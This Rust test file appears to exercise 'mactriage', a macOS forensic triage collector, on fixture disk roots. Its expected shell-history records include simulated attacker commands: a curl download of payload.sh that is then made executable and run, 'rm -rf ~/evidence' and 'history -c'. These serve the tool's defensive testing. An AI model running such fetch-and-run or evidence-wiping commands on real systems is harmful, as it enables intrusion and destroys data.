//! End-to-end tests: the real binary on fixture roots.

mod common;

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use common::*;

#[test]
fn collects_the_basic_fixture_into_a_valid_tarball() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let before = snapshot(&root);

    let run = collect(&root, &out, &[]);
    assert_eq!(run.code, 0, "stderr:\n{}", run.stderr);

    // The last stdout line is the absolute path of the tarball, alone.
    let tarball = run.tarball();
    assert!(tarball.is_absolute());
    assert_eq!(tarball.parent().unwrap(), out.canonicalize().unwrap());
    let name = tarball.file_name().unwrap().to_str().unwrap();
    assert!(
        name.starts_with("mactriage_alice-mbp_") && name.ends_with("Z.tar.gz"),
        "{name}"
    );
    let mode = std::fs::metadata(&tarball).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);

    // The .sha256 beside it matches the tarball, and the summary says so.
    let sum = std::fs::read_to_string(format!("{}.sha256", tarball.display())).unwrap();
    let digest = sha256(&std::fs::read(&tarball).unwrap());
    assert_eq!(sum, format!("{digest}  {name}\n"));
    assert!(
        run.stderr.contains(&digest),
        "summary lacks the sha256:\n{}",
        run.stderr
    );

    // No staging or temporary files are left behind.
    let left: Vec<_> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(left.len(), 2, "{left:?}");

    let members = members_map(&tarball);
    let man = manifest(&members);
    assert_eq!(man["tool"]["name"], "mactriage");
    assert_eq!(man["host"]["hostname"], "alice-mbp");
    assert_eq!(man["host"]["os_version"], "14.4.1");
    assert_eq!(man["host"]["live"], false);
    assert_eq!(man["collection"]["live"], false);
    assert_eq!(man["summary"]["status"], "ok");

    // Every file the manifest lists is a member with that exact hash, and
    // every [root] member is listed.
    let files = man["files"].as_array().unwrap();
    let mut listed = BTreeSet::new();
    for f in files {
        let member = f["member"].as_str().unwrap();
        let m = &members[member];
        assert_eq!(f["sha256"].as_str().unwrap(), sha256(&m.data), "{member}");
        assert_eq!(f["size"].as_u64().unwrap(), m.data.len() as u64);
        let source = f["source"].as_str().unwrap();
        assert_eq!(member, format!("[root]{source}"));
        // Byte-exact copy of the source.
        let on_disk = std::fs::read(root.join(&source[1..])).unwrap();
        assert_eq!(on_disk, m.data, "{member}");
        listed.insert(member.to_string());
    }
    let in_tar: BTreeSet<String> = members
        .keys()
        .filter(|k| k.starts_with("[root]/"))
        .cloned()
        .collect();
    assert_eq!(listed, in_tar);
    for o in man["outputs"].as_array().unwrap() {
        let member = o["member"].as_str().unwrap();
        assert_eq!(
            o["sha256"].as_str().unwrap(),
            sha256(&members[member].data),
            "{member}"
        );
    }
    for required in [
        "bodyfile/bodyfile.txt",
        "collection.log",
        "manifest.json",
        "parsed/shell_history.jsonl",
    ] {
        assert!(members.contains_key(required), "{required} missing");
    }
    // No member escapes: no absolute names, no `..`.
    for k in members.keys() {
        assert!(
            !k.starts_with('/') && !k.split('/').any(|c| c == ".."),
            "{k}"
        );
    }

    // Body file: one line per collected file, 11 fields, MD5 of the data.
    let body = String::from_utf8(members["bodyfile/bodyfile.txt"].data.clone()).unwrap();
    let lines: Vec<&str> = body.lines().collect();
    assert_eq!(lines.len(), files.len());
    for l in &lines {
        let f: Vec<&str> = l.split('|').collect();
        assert_eq!(f.len(), 11, "{l}");
        let m = &members[&format!("[root]{}", f[1])];
        assert_eq!(
            f[0],
            hex::encode(<md5::Md5 as sha2::Digest>::digest(&m.data))
        );
        assert!(f[3].starts_with("r/r"), "{l}");
        assert_eq!(f[6], m.data.len().to_string());
    }

    // The collector's entry in the manifest.
    let sh = collector(&man, "shell_history");
    assert_eq!(sh["status"], "ok");
    assert_eq!(sh["records"], 19);
    assert_eq!(sh["files"], 9);
    // The fixture's FSEvents store: one page of six records, and its UUID.
    let fse = collector(&man, "fsevents");
    assert_eq!(fse["status"], "ok");
    assert_eq!(fse["records"], 6);
    assert_eq!(fse["files"], 2);
    let events = jsonl(&members, "fsevents");
    assert_eq!(
        events[2]["full_path"],
        "/System/Volumes/Data/Users/alice/Downloads/Installer.dmg"
    );
    assert_eq!(
        events[2]["flag_names"],
        serde_json::json!(["Created", "ExtendedAttributeModified", "IsFile"])
    );
    assert_eq!(
        events[2]["fseventsd_uuid"],
        "6C0B58B4-5F3A-4C1E-9E1B-2A57D0C4E8F1"
    );

    // The evidence is unchanged: bytes, sizes, modes, mtimes, ctimes.
    assert_eq!(snapshot(&root), before);
}

#[test]
fn shell_history_records_every_command_with_its_time() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(
        &fixture("mac-basic"),
        work.path(),
        &["--only", "shell_history"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let members = members_map(&run.tarball());
    let recs = jsonl(&members, "shell_history");
    let got: Vec<(String, String, String, String, serde_json::Value)> = recs
        .iter()
        .map(|r| {
            (
                r["user"].as_str().unwrap().into(),
                r["source"].as_str().unwrap().into(),
                r["shell"].as_str().unwrap().into(),
                r["command"].as_str().unwrap().into(),
                r["timestamp"].clone(),
            )
        })
        .filter(|r: &(String, String, String, String, serde_json::Value)| {
            r.1.ends_with(".zsh_history") || r.1.ends_with(".bash_history")
        })
        .collect();
    let t = |s: &str| serde_json::Value::String(s.into());
    let null = serde_json::Value::Null;
    let a = "/Users/alice/.zsh_history";
    let b = "/Users/bob/.bash_history";
    let row = |u: &str, s: &str, sh: &str, c: &str, ts: serde_json::Value| {
        (
            u.to_string(),
            s.to_string(),
            sh.to_string(),
            c.to_string(),
            ts,
        )
    };
    assert_eq!(
        got,
        vec![
            row(
                "alice",
                a,
                "zsh",
                "cd ~/Downloads",
                t("2023-11-14T22:13:20Z")
            ),
            row(
                "alice",
                a,
                "zsh",
                "curl -sL https://example.invalid/payload.sh -o /tmp/p.sh",
                t("2023-11-14T22:13:25Z")
            ),
            row(
                "alice",
                a,
                "zsh",
                "for f in *.pkg; do \n  shasum -a 256 \"$f\"\ndone",
                t("2023-11-14T22:13:30Z")
            ),
            row(
                "alice",
                a,
                "zsh",
                "echo \"日本語のコマンド\"",
                t("2023-11-14T22:13:40Z")
            ),
            row("alice", a, "zsh", "ls 中文目录", t("2023-11-14T22:13:50Z")),
            row(
                "alice",
                a,
                "zsh",
                "chmod +x /tmp/p.sh && /tmp/p.sh",
                t("2023-11-14T22:14:00Z")
            ),
            row("bob", b, "bash", "ls -la", null.clone()),
            row("bob", b, "bash", "whoami", t("2020-09-13T12:26:40Z")),
            row(
                "bob",
                b,
                "bash",
                "cat <<EOF > /tmp/x\nhello\nEOF",
                t("2020-09-13T12:27:40Z")
            ),
            row("bob", b, "bash", "history -c", t("2020-09-13T12:28:40Z")),
            row(
                "olduser",
                "/Users/olduser/.bash_history",
                "bash",
                "rm -rf ~/evidence",
                null
            ),
        ]
    );
    // Record layout: the common keys first, the stored value beside the time.
    let first = &recs.iter().find(|r| r["source"] == a).unwrap();
    let keys: Vec<&str> = first
        .as_object()
        .unwrap()
        .keys()
        .map(|k| k.as_str())
        .collect();
    assert_eq!(&keys[..4], ["collector", "source", "user", "timestamp"]);
    assert_eq!(first["timestamp_raw"], 1_700_000_000);
    assert_eq!(first["duration_s"], 0);
    assert_eq!(first["line"], 1);
    // Session histories and root's history are there too.
    assert!(recs
        .iter()
        .any(|r| r["command"] == "sudo -l" && r["shell"] == "zsh"));
    assert!(recs
        .iter()
        .any(|r| r["command"] == "ssh admin@10.0.0.5" && r["shell"] == "bash"));
    assert!(recs
        .iter()
        .any(|r| r["command"] == "launchctl list" && r["user"] == "root"));
}

#[test]
fn broken_files_give_exit_1_an_error_each_and_a_tarball() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let alice = root.join("Users/alice");
    // Binary garbage, invalid UTF-8, a non-UTF-8 file name, an unreadable
    // file (when not root), a FIFO, and a symlink out of the evidence.
    std::fs::write(alice.join(".zsh_history"), b"\x00\x01\x02\xff garbage \x00").unwrap();
    std::fs::write(root.join("Users/bob/.bash_history"), b"ok\n\xff\xfe\xfd\n").unwrap();
    {
        use std::os::unix::ffi::OsStrExt;
        let name = std::ffi::OsStr::from_bytes(b".caf\xe9_history");
        std::fs::write(alice.join(name), b"latin1 name\n").unwrap();
    }
    nix::unistd::mkfifo(
        &alice.join(".node_repl_history"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/passwd", alice.join(".psql_history")).unwrap();
    let out = work.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let before = snapshot(&root);

    let run = collect(&root, &out, &[]);
    assert_eq!(run.code, 1, "stderr:\n{}", run.stderr);
    let members = members_map(&run.tarball());
    let man = manifest(&members);
    assert_eq!(man["summary"]["status"], "partial");
    let sh = collector(&man, "shell_history");
    assert_eq!(sh["status"], "partial");
    let errors: Vec<(String, String)> = sh["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap().to_string(),
                e["message"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let find = |p: &str| {
        errors
            .iter()
            .find(|e| e.0.ends_with(p))
            .unwrap_or_else(|| panic!("no error for {p}: {errors:?}"))
            .1
            .clone()
    };
    assert!(find("/Users/alice/.zsh_history").contains("NUL"));
    assert!(find("/Users/bob/.bash_history").contains("not valid UTF-8"));
    assert!(find("/Users/alice/.node_repl_history").contains("FIFO"));
    assert_eq!(errors.len(), 3, "{errors:?}");
    // A name that is not UTF-8 is no error: it is collected, shown lossily,
    // and kept exactly beside (docs/output.md).
    let entry = man["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["source"] == "/Users/alice/.caf\u{fffd}_history")
        .expect("the non-UTF-8 history is collected");
    assert_eq!(entry["source_b64"], "L1VzZXJzL2FsaWNlLy5jYWbpX2hpc3Rvcnk=");
    // Each error is in the log too.
    let log = String::from_utf8_lossy(&members["collection.log"].data).into_owned();
    assert!(
        log.contains("/Users/alice/.node_repl_history: not a regular file (FIFO)"),
        "{log}"
    );
    // The symlink is stored as a symlink to its target, never read.
    let link = &members["[root]/Users/alice/.psql_history"];
    assert_eq!(link.kind, tar::EntryType::Symlink);
    assert_eq!(link.link.as_deref(), Some(Path::new("/etc/passwd")));
    // The other users' good commands are still there.
    let recs = jsonl(&members, "shell_history");
    assert!(recs.iter().any(|r| r["command"] == "rm -rf ~/evidence"));
    assert!(recs
        .iter()
        .any(|r| r["command"] == "\u{fffd}\u{fffd}\u{fffd}" && r["lossy"] == true));
    assert_eq!(snapshot(&root), before);
}

#[test]
fn bad_arguments_exit_2_without_a_tarball() {
    let work = tempfile::tempdir().unwrap();
    let cases: Vec<(Vec<String>, &str)> = vec![
        (
            vec![
                "collect".into(),
                "--root".into(),
                "/nonexistent/root".into(),
            ],
            "--root",
        ),
        (
            vec![
                "collect".into(),
                "--only".into(),
                "nosuch".into(),
                "--root".into(),
                fixture("mac-basic").display().to_string(),
            ],
            "unknown collector",
        ),
        (
            vec![
                "collect".into(),
                "--output".into(),
                "/nonexistent/out".into(),
                "--root".into(),
                fixture("mac-basic").display().to_string(),
            ],
            "--output",
        ),
        (
            vec![
                "collect".into(),
                "--time-limit".into(),
                "soon".into(),
                "--root".into(),
                fixture("mac-basic").display().to_string(),
            ],
            "--time-limit",
        ),
        (vec!["collect".into(), "--bogus".into()], "--bogus"),
    ];
    for (args, expect) in cases {
        let out = bin().current_dir(work.path()).args(&args).output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(expect), "{args:?}: {stderr}");
        assert!(out.stdout.is_empty(), "{args:?}");
    }
    assert_eq!(std::fs::read_dir(work.path()).unwrap().count(), 0);
}

#[test]
fn unwritable_output_exits_2() {
    if nix::unistd::geteuid().is_root() {
        // root may write anywhere; covered by the read-only case below.
        let work = tempfile::tempdir().unwrap();
        let run = collect(&fixture("mac-basic"), Path::new("/proc"), &[]);
        assert_eq!(run.code, 2, "{}", run.stderr);
        assert!(run.stderr.contains("error"), "{}", run.stderr);
        drop(work);
        return;
    }
    let work = tempfile::tempdir().unwrap();
    let out = work.path().join("ro");
    std::fs::create_dir(&out).unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o500)).unwrap();
    let run = collect(&fixture("mac-basic"), &out, &[]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("not writable"), "{}", run.stderr);
}

#[test]
fn the_output_directory_inside_the_root_is_never_collected() {
    let work = tempfile::tempdir().unwrap();
    let root = work.path().join("root");
    copy_tree(&fixture("mac-basic"), &root);
    let out = root.join("Users/alice/case");
    std::fs::create_dir(&out).unwrap();
    // A history file in the output directory must not be collected.
    std::fs::write(out.join(".zsh_history"), b"should not be collected\n").unwrap();
    let first = collect(&root, &out, &[]);
    assert_eq!(first.code, 0, "{}", first.stderr);
    let members = members_map(&first.tarball());
    assert!(
        members.keys().all(|k| !k.contains("/case/")),
        "{:?}",
        members.keys()
    );
}

#[test]
fn deselected_and_live_only_collectors_are_skipped() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(
        &fixture("mac-basic"),
        work.path(),
        &["--skip", "shell_history"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let members = members_map(&run.tarball());
    let man = manifest(&members);
    let status = |n: &str| collector(&man, n).clone();
    assert_eq!(status("shell_history")["status"], "skipped");
    assert_eq!(status("shell_history")["reason"], "skipped (--skip)");
    assert_eq!(status("processes")["status"], "skipped");
    assert!(status("processes")["reason"]
        .as_str()
        .unwrap()
        .starts_with("live-only"));
    assert_eq!(status("browsers")["status"], "ok");
    assert!(!members.contains_key("parsed/shell_history.jsonl"));
    assert!(!members.contains_key("parsed/processes.jsonl"));
    // Every collector is in the manifest, whether it ran or not.
    let listed = String::from_utf8(bin().arg("list").output().unwrap().stdout).unwrap();
    assert_eq!(
        man["collectors"].as_array().unwrap().len(),
        listed.lines().count()
    );
}

#[test]
fn quiet_prints_only_the_path() {
    let work = tempfile::tempdir().unwrap();
    let run = collect(&fixture("mac-basic"), work.path(), &["--quiet"]);
    assert_eq!(run.code, 0);
    assert_eq!(run.stderr, "");
    assert_eq!(run.stdout.lines().count(), 1);
    assert!(run.tarball().exists());
}

#[test]
fn list_help_and_version() {
    let out = bin().arg("list").output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text
        .lines()
        .any(|l| l.starts_with("shell_history ") && l.contains("any root")));
    let help = bin().arg("--help").output().unwrap();
    assert!(help.status.success());
    let help = String::from_utf8(help.stdout).unwrap();
    assert!(help.contains("Examples:") && help.contains("--root /Volumes/Image"));
    let collect_help =
        String::from_utf8(bin().args(["collect", "--help"]).output().unwrap().stdout).unwrap();
    for flag in [
        "--root",
        "--output",
        "--only",
        "--skip",
        "--quiet",
        "--time-limit",
        "--max-file-size",
        "--max-total-size",
    ] {
        assert!(collect_help.contains(flag), "{flag}");
    }
    let v = bin().arg("--version").output().unwrap();
    assert_eq!(
        String::from_utf8(v.stdout).unwrap().trim(),
        format!("mactriage {}", env!("CARGO_PKG_VERSION"))
    );
}
